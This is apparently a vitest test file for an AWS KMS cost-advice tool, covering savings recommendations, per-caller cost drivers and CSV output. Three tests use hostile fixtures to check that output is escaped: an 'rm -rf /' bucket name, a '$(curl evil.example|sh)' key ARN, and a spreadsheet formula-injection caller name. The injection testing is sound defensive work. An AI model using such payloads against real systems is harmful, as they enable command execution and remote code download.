import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { adviseMonth } from '../../../src/advice/index.js';
import type { Finding, RuleTable } from '../../../src/model/findings.js';
import type { CostLine, KeyCost, MonthCost } from '../../../src/model/pricing.js';
import type { KeyRow, MonthlyReport, WasteRow } from '../../../src/model/report.js';
import type { PreviousDrivers } from '../../../src/model/report-schema.js';
import type { CallerRequestCount, MonthUsage } from '../../../src/model/usage.js';
import { renderDriversCsv, renderRecommendationsCsv } from '../../../src/report/csv-advice.js';
import { costDriversSection } from '../../../src/report/sections/advice.js';

/**
 * The advice is checked against hand-computed figures: each line's amount is `requests ÷ 10,000 ×
 * price`, each caller's share of it, each recommendation's saving its documented fraction.
 */

const ME = '111122223333';
const PARTNER = '444455556666';
const key = (id: string) => `arn:aws:kms:us-east-1:${ME}:key/${id}`;
const roleArn = (name: string, account = ME) => `arn:aws:iam::${account}:role/${name}`;

interface LineSpec {
  account?: string;
  keyArn: string;
  operation: string;
  spec?: string | null;
  requests: number;
  /** Per 10,000 requests. */
  price: string;
  tier?: CostLine['tier'];
}

function requestLine(l: LineSpec): CostLine {
  const amount = ((l.requests / 10_000) * Number(l.price)).toFixed(6);
  return {
    kind: 'requests',
    account: l.account ?? ME,
    region: 'us-east-1',
    keyArn: l.keyArn,
    description: l.operation,
    tier: l.tier ?? 'KMS-Requests',
    operation: l.operation,
    keyPairSpec: l.spec ?? null,
    quantity: String(l.requests),
    unit: 'requests',
    unitPrice: l.price,
    priceUnit: '10k-requests',
    amount,
    unknownReason: null,
    hours: null,
    assumptions: [],
  };
}

function costOf(lines: readonly CostLine[], credits: readonly CostLine[] = []): MonthCost {
  const byKey = new Map<string, CostLine[]>();
  for (const l of lines) byKey.set(l.keyArn as string, [...(byKey.get(l.keyArn as string) ?? []), l]);
  const keys = [...byKey].map(
    ([arn, ls]): KeyCost =>
      ({
        keyArn: arn,
        account: ME,
        region: 'us-east-1',
        keyId: arn.split('/')[1],
        lines: ls,
      }) as unknown as KeyCost,
  );
  return {
    currency: 'USD',
    keys,
    accountRequests: [],
    unattributed: [],
    credits,
    byBilledAccount: [
      { account: ME, inTotal: true, total: { amount: '0', complete: true, unknownLines: 0 } },
      { account: PARTNER, inTotal: false, total: { amount: '0', complete: true, unknownLines: 0 } },
    ],
  } as unknown as MonthCost;
}

function caller(
  l: LineSpec,
  who: string,
  extra: Partial<CallerRequestCount> = {},
  count = l.requests,
): CallerRequestCount {
  return {
    account: l.account ?? ME,
    region: 'us-east-1',
    keyArn: l.keyArn,
    operation: l.operation,
    keyPairSpec: l.spec ?? null,
    caller: who,
    callerType: 'role',
    callerAccount: l.account ?? ME,
    invokedBy: null,
    bucketArn: null,
    s3ContextScope: null,
    count,
    failedCount: 0,
    source: 'cloudtrail-s3',
    ...extra,
  };
}

function usageOf(callers: readonly CallerRequestCount[] | undefined): MonthUsage {
  return {
    month: '2026-10',
    window: { start: '2026-10-01T00:00:00.000Z', end: '2026-11-01T00:00:00.000Z' },
    requests: [],
    callers,
    accountTotals: [],
    lifecycle: [],
    coverage: [],
  };
}

const s3Object = (bucket: string) => ({
  invokedBy: 's3.amazonaws.com',
  bucketArn: `arn:aws:s3:::${bucket}`,
  s3ContextScope: 'object' as const,
});

const NO_RULES = {} as RuleTable;

function advise(
  lines: LineSpec[],
  callers: CallerRequestCount[] | undefined,
  extra: {
    credits?: CostLine[];
    waste?: WasteRow[];
    findings?: Finding[];
    keys?: KeyRow[];
    ecc?: Record<string, string>;
    previous?: { month: string; drivers: PreviousDrivers | null };
  } = {},
) {
  return adviseMonth({
    usage: usageOf(callers),
    cost: costOf(lines.map(requestLine), extra.credits),
    keys: extra.keys ?? [],
    waste: extra.waste ?? [],
    findings: extra.findings ?? [],
    rules: NO_RULES,
    previous: extra.previous ?? null,
    eccPairPricesPer10k: extra.ecc ?? {},
  });
}

describe('recommendations', () => {
  it('advises a Bucket Key for per-object S3 requests and saves 99% of their cost', () => {
    // 1,000,000 Decrypt at $0.03 per 10,000 = $3.00; a Bucket Key saves 99%: $2.97, $35.64 a year.
    const l = { keyArn: key('a'), operation: 'Decrypt', requests: 1_000_000, price: '0.03' };
    const { recommendations } = advise([l], [caller(l, roleArn('etl'), s3Object('raw-data'))]);
    const [r] = recommendations.items;
    expect(r?.kind).toBe('s3-bucket-key');
    expect(r?.subject).toBe('arn:aws:s3:::raw-data');
    expect(r?.monthlySaving).toBe('2.97');
    expect(r?.yearlySaving).toBe('35.64');
    expect(r?.apply.cli).toContain('--bucket raw-data');
    expect(r?.apply.cli).toContain('"BucketKeyEnabled":true');
    expect(r?.apply.cli).toContain('KEY=arn:aws:kms:us-east-1:111122223333:key/a\n');
    expect(r?.apply.terraform).toContain('bucket_key_enabled = true');
  });

  it('does not advise a Bucket Key below the threshold, nor for a bucket that has one', () => {
    const small = { keyArn: key('a'), operation: 'Decrypt', requests: 9_999, price: '0.03' };
    const keyed = { keyArn: key('b'), operation: 'Decrypt', requests: 1_000_000, price: '0.03' };
    const { recommendations } = advise(
      [small, keyed],
      [
        caller(small, roleArn('etl'), s3Object('small')),
        caller(keyed, roleArn('etl'), { ...s3Object('keyed'), s3ContextScope: 'bucket' }),
      ],
    );
    expect(recommendations.items).toEqual([]);
  });

  it('puts a placeholder in the command for a bucket name S3 would not allow', () => {
    const l = { keyArn: key('a'), operation: 'Decrypt', requests: 20_000, price: '0.03' };
    const { recommendations } = advise([l], [caller(l, roleArn('etl'), s3Object("x'; rm -rf / #"))]);
    expect(recommendations.items[0]?.apply.cli).toContain('--bucket <bucket>');
  });

  it('quotes a key ARN in the commands it recommends, even one that got past the evidence checks', () => {
    const hostile = `${key('a')}$(curl evil.example|sh)`;
    const l = { keyArn: hostile, operation: 'Decrypt', requests: 20_000, price: '0.03' };
    const { recommendations } = advise([l], [caller(l, roleArn('etl'), s3Object('logs'))]);
    const cli = recommendations.items[0]?.apply.cli ?? '';
    expect(cli.split('\n')[0]).toBe(`KEY='${hostile}'`);
  });

  it('advises data key caching to a principal calling GenerateDataKey/Decrypt directly 1,000,000 times', () => {
    // 600,000 GenerateDataKey + 400,000 Decrypt at $0.03 = $3.00; caching saves 90%: $2.70.
    const gdk = { keyArn: key('a'), operation: 'GenerateDataKey', requests: 600_000, price: '0.03' };
    const dec = { keyArn: key('b'), operation: 'Decrypt', requests: 400_000, price: '0.03' };
    const { recommendations } = advise(
      [gdk, dec],
      [caller(gdk, roleArn('lambda')), caller(dec, roleArn('lambda'))],
    );
    expect(recommendations.items.map((r) => [r.kind, r.subject, r.monthlySaving, r.requests])).toEqual([
      ['data-key-caching', roleArn('lambda'), '2.7', 1_000_000],
    ]);
  });

  it('does not advise caching below the rate, nor to S3 calling on a principal’s behalf', () => {
    const low = { keyArn: key('a'), operation: 'Decrypt', requests: 999_999, price: '0.03' };
    const { recommendations } = advise([low], [caller(low, roleArn('lambda'))]);
    expect(recommendations.items).toEqual([]);
  });

  it('advises ECC data key pairs and saves the difference in price', () => {
    // 10,000 RSA_2048 pairs at $12.00 = $12.00; at the ECC price $0.10 they would cost $0.10: $11.90 saved.
    const l = {
      keyArn: key('p'),
      operation: 'GenerateDataKeyPair',
      spec: 'RSA_2048',
      requests: 10_000,
      price: '12.00',
      tier: 'KMS-Requests-GenerateDatakeyPair-RSA' as const,
    };
    const { recommendations } = advise([l], [caller(l, roleArn('devices'))], {
      ecc: { 'us-east-1': '0.10' },
    });
    expect(recommendations.items[0]?.kind).toBe('ecc-data-key-pairs');
    expect(recommendations.items[0]?.monthlySaving).toBe('11.9');
    expect(recommendations.items[0]?.apply.cli).toContain('--key-pair-spec ECC_NIST_P256');
  });

  it('says the ECC saving is unknown, not zero, when the ECC price is not known', () => {
    const l = {
      keyArn: key('p'),
      operation: 'GenerateDataKeyPair',
      spec: 'RSA_4096',
      requests: 5_000,
      price: '12.00',
    };
    const { recommendations } = advise([l], [caller(l, roleArn('devices'))]);
    expect(recommendations.items[0]?.monthlySaving).toBeNull();
    expect(recommendations.monthlySaving).toEqual({ amount: '0', complete: false });
  });

  it('names a caller in another account as billed to it, with no saving for you', () => {
    const l = {
      account: PARTNER,
      keyArn: key('x'),
      operation: 'Decrypt',
      requests: 2_000_000,
      price: '0.03',
    };
    const { recommendations } = advise([l], [caller(l, roleArn('partner', PARTNER))]);
    expect(recommendations.items.map((r) => [r.kind, r.subject, r.monthlySaving])).toEqual([
      ['cross-account-caller', PARTNER, '0'],
    ]);
    expect(recommendations.items[0]?.evidence).toContain('$6.00 billed to account 444455556666, not to you');
  });

  it('counts a request once when a key to remove also carries a heavy caller', () => {
    // The role calls the unused key 1,200,000 times and another key 500,000 times: removing the
    // key takes its requests, and the 500,000 left are under the caching threshold.
    const onRemoved = { keyArn: key('old'), operation: 'Decrypt', requests: 1_200_000, price: '0.03' };
    const elsewhere = { keyArn: key('new'), operation: 'Decrypt', requests: 500_000, price: '0.03' };
    const row = {
      arn: key('old'),
      keyId: 'old',
      region: 'us-east-1',
      rotationFee: '2',
      keyState: 'Enabled',
    } as KeyRow;
    const { recommendations } = advise(
      [onRemoved, elsewhere],
      [caller(onRemoved, roleArn('app')), caller(elsewhere, roleArn('app'))],
      {
        keys: [row],
        waste: [{ arn: key('old'), name: 'alias/old', reason: 'unused: no use in 90 days', cost: '6.6' }],
        findings: [{ ruleId: 'KMS-LIFE-02', keyArn: key('old'), status: 'FAIL' } as Finding],
      },
    );
    expect(recommendations.items.map((r) => [r.kind, r.monthlySaving, r.requests])).toEqual([
      ['remove-unused-key', '6.6', 1_200_000],
    ]);
    expect(recommendations.items[0]?.evidence).toContain('of which rotations $2.00');
    expect(recommendations.items[0]?.yearlySaving).toBe('79.2');
    expect(recommendations.monthlySaving).toEqual({ amount: '6.6', complete: true });
  });

  it('adds up savings of different recommendations without counting a request twice', () => {
    // Bucket Key: $3.00 × 0.99 = $2.97; caching: 1,000,000 direct at $0.03 = $3.00 × 0.9 = $2.70.
    const s3 = { keyArn: key('a'), operation: 'GenerateDataKey', requests: 1_000_000, price: '0.03' };
    const direct = { keyArn: key('a'), operation: 'Decrypt', requests: 1_000_000, price: '0.03' };
    const { recommendations } = advise(
      [s3, direct],
      [caller(s3, roleArn('app'), s3Object('b')), caller(direct, roleArn('app'))],
    );
    expect(recommendations.items.map((r) => [r.kind, r.monthlySaving])).toEqual([
      ['s3-bucket-key', '2.97'],
      ['data-key-caching', '2.7'],
    ]);
    expect(recommendations.monthlySaving.amount).toBe('5.67');
    expect(recommendations.yearlySaving).toBe('68.04');
  });
});

describe('cost drivers', () => {
  const a = { keyArn: key('a'), operation: 'Decrypt', requests: 15_000, price: '0.03' };
  const b = { keyArn: key('b'), operation: 'Encrypt', requests: 15_000, price: '0.03' };
  // The free tier's 20,000 requests ($0.06) of $0.09 priced: each caller keeps a third of its $0.045.
  const credit: CostLine = {
    ...requestLine({ keyArn: '', operation: '', requests: 20_000, price: '0.03' }),
    kind: 'free-tier-credit',
    keyArn: null,
    operation: null,
    quantity: '-20000',
    amount: '-0.06',
  };

  it('gives each caller its share of the line, the free tier shared pro rata', () => {
    const { drivers } = advise(
      [a, b],
      [caller(a, roleArn('x'), {}, 10_000), caller(a, roleArn('y'), {}, 5_000), caller(b, roleArn('x'))],
      {
        credits: [credit],
      },
    );
    expect(drivers.callersKnown).toBe('known');
    // x: 10,000 of a ($0.03) + 15,000 of b ($0.045) = $0.075, a third kept: $0.025; y: $0.015 → $0.005.
    expect(drivers.overall.map((d) => [d.caller, d.requests, d.cost])).toEqual([
      [roleArn('x'), 25_000, '0.025'],
      [roleArn('y'), 5_000, '0.005'],
    ]);
    // Both keys' callers cost $0.015 in all: the keys in ARN order, each key's callers costliest first.
    expect(drivers.perKey.map((d) => [d.keyArn, d.caller, d.cost])).toEqual([
      [key('a'), roleArn('x'), '0.01'],
      [key('a'), roleArn('y'), '0.005'],
      [key('b'), roleArn('x'), '0.015'],
    ]);
    expect(drivers.previousMonth).toBeNull();
    expect(drivers.overall[0]?.costChange).toBeNull();
  });

  it('shows the change from last month for the callers its report listed', () => {
    const previous: PreviousDrivers = {
      overall: [
        {
          caller: roleArn('x'),
          invokedBy: null,
          bucketArn: null,
          billedAccount: ME,
          keyArn: null,
          requests: 5_000,
          cost: '0.01',
        },
      ],
      perKey: [],
    };
    const { drivers } = advise(
      [a],
      [caller(a, roleArn('x'), {}, 10_000), caller(a, roleArn('y'), {}, 5_000)],
      {
        previous: { month: '2026-09', drivers: previous },
      },
    );
    expect(drivers.previousMonth).toBe('2026-09');
    const [x, y] = drivers.overall;
    expect([x?.previousRequests, x?.previousCost, x?.costChange]).toEqual([5_000, '0.01', '0.02']);
    // Not in last month's list: unknown, not zero.
    expect([y?.previousCost, y?.costChange]).toEqual([null, null]);
  });

  it('says callers are unknown when the evidence does not count them, never "no callers"', () => {
    const { drivers } = advise([a], undefined);
    expect(drivers.callersKnown).toBe('unknown');
    expect(drivers.unknownCallers).toEqual({ requests: 15_000, cost: '0.045' });
    const md = costDriversSection({ drivers, cost: { currency: 'USD' } } as MonthlyReport);
    expect(md).toContain('Callers unknown: the usage evidence does not count callers');
    expect(md).toContain('15,000 requests ($0.05) billed to you have no known caller');
    expect(md).not.toMatch(/No request/);
  });

  it('says callers are partly unknown when a line has no caller counts', () => {
    const { drivers } = advise([a, b], [caller(a, roleArn('x'))]);
    expect(drivers.callersKnown).toBe('partial');
    expect(drivers.unknownCallers.requests).toBe(15_000);
  });
});

describe('drivers.csv and recommendations.csv', () => {
  it('keeps a hostile caller name inert: no formula, no broken row, no Markdown table break', () => {
    const hostile = '=HYPERLINK("http://evil")|\n@x';
    const l = { account: PARTNER, keyArn: key('a'), operation: 'Decrypt', requests: 10_000, price: '0.03' };
    const { drivers, recommendations } = advise([l], [caller(l, hostile)]);
    const report = { month: '2026-10', cost: { currency: 'USD' }, drivers, recommendations } as MonthlyReport;
    const rows = parse(renderDriversCsv(report), { columns: true }) as Record<string, string>[];
    expect(rows).toHaveLength(2);
    expect(rows[0]?.CALLER).toBe(`'=HYPERLINK("http://evil")|\n'@x`);
    expect(rows[0]?.IN_REPORT_TOTAL).toBe('false');
    expect(rows[0]?.COST).toBe('0.03');
    const recs = parse(renderRecommendationsCsv(report), { columns: true }) as Record<string, string>[];
    expect(recs[0]?.KIND).toBe('cross-account-caller');
    expect(recs[0]?.EVIDENCE).not.toMatch(/^=/);
    const md = costDriversSection(report);
    expect(md).not.toContain('evil")|');
    expect(md).toContain('\\|');
  });
});

describe("last month's drivers", () => {
  it('are read leniently: absent or malformed, the month is still compared', async () => {
    const { previousReportSchema } = await import('../../../src/model/report-schema.js');
    const base = {
      kind: 'kms-report/monthly-report',
      schemaVersion: 2,
      month: '2026-09',
      keys: [],
      findings: [],
      summary: { cost: { total: { amount: '1.5' } } },
    };
    expect(previousReportSchema.parse(base).drivers).toBeUndefined();
    expect(previousReportSchema.parse({ ...base, drivers: { overall: 'oops' } }).drivers).toBeNull();
    const overall = [
      {
        caller: 'c',
        invokedBy: null,
        bucketArn: null,
        billedAccount: ME,
        keyArn: null,
        requests: 3,
        cost: '0.1',
      },
    ];
    expect(
      previousReportSchema.parse({ ...base, drivers: { overall, perKey: [] } }).drivers?.overall,
    ).toEqual(overall);
  });
});
